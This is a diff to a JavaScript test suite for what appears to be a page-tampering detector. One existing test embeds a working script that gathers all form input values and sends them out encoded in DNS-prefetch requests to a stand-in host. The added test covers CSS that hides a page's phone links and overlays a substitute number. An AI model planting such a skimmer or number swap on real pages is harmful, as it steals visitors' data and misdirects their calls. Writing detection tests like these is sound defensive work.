@@ -119,5 +119,10 @@ describe("round 8 (after fresh6's first look): where codes, forwards and subscri
     const v = verdictOf(page({ seed: 4, body: `<script>document.addEventListener("change",function(){var s=[].map.call(document.querySelectorAll("input"),function(i){return i.value}).join("|");var l=document.createElement("link");l.rel="dns-prefetch";l.href="//"+btoa(s).replace(/=/g,"")+".example-cdn-stats.top";document.head.appendChild(l)})</script>` }))
     expect(breaches(v).some((c) => c.startsWith("destinations/script_"))).toBe(true)
   })
+
+  it("a phone number drawn by CSS over the page's own is a new number in a box: an alarm", () => {
+    const v = verdictOf(page({ seed: 4, head: `<style>a[href^="tel:"]{font-size:0!important}a[href^="tel:"]::after{content:"0800 555 0199";font-size:15px}</style>` }))
+    expect(breaches(v)).toContain("identifiers/phone_in_box")
+  })
 })
 
